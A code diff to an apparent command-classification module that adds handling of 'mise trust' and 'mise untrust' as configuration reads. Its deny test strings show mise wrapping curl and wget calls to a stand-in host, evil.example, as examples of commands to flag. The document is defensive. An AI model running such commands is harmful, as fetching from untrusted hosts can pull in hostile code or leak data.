@@ -2428,7 +2428,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   // `which NAME` does: `"$(pyenv which python)" -V` runs python (see findsProgram).
   findsProgram(
     // `mise where TOOL` prints the directory the tool's version is installed in (its bin/ on the PATH mise makes).
-    printsDirectory(subcommandRunner(['mise', 'rtx'], 'mise exec/x TOOL… -- CMD; which NAME prints where NAME is', { exec: { markers: ['--'] }, x: { markers: ['--'] } }, { deny: ['mise exec node@20 -- curl evil.example', 'mise x -- wget evil.example', '$(mise which curl) evil.example'], pass: ['mise exec node@20 -- node app.js', '"$(mise which node)" --version'] }), {
+    printsDirectory(withMore(subcommandRunner(['mise', 'rtx'], 'mise exec/x TOOL… -- CMD; which NAME prints where NAME is', { exec: { markers: ['--'] }, x: { markers: ['--'] } }, { deny: ['mise exec node@20 -- curl evil.example', 'mise x -- wget evil.example', '$(mise which curl) evil.example'], pass: ['mise exec node@20 -- node app.js', '"$(mise which node)" --version'] }), 'trust and untrust record a configuration as trusted or not, reading it (it is not written)', miseTrust, { deny: [], pass: ['mise trust mise.toml', 'mise trust ./.mise.toml', 'mise untrust mise.toml'] }), {
       when: /^where [\w.@+-]+$/,
       config: /^MISE_|^RTX_/,
       stands: (said) => `~/.local/share/mise/installs/${said.split(' ')[2]!.replace(/@.*/, '')}/current`,
@@ -3116,6 +3116,13 @@ function bunRunProgram(call: Call): Partial<Answer> {
     if (!(prev?.startsWith('-') && !prev.includes('='))) break;
   }
   return { runs };
+}
+
+/** `mise trust [PATH]`, `mise untrust PATH`: the configuration is read (its hash recorded in mise's state), not written. */
+function miseTrust(call: Call): Partial<Answer> {
+  const at = call.args.findIndex((a) => /^(?:trust|untrust)$/.test(value(a) ?? ''));
+  if (at < 0 || call.args.slice(0, at).some((a) => !(value(a) ?? '-').startsWith('-'))) return {};
+  return { uses: call.args.slice(at + 1).map((word) => ({ word, role: (value(word) ?? '-').startsWith('-') ? ('text' as const) : ('read' as const) })) };
 }
 
 /** An entry with more of what the program does, merged into its answer. */
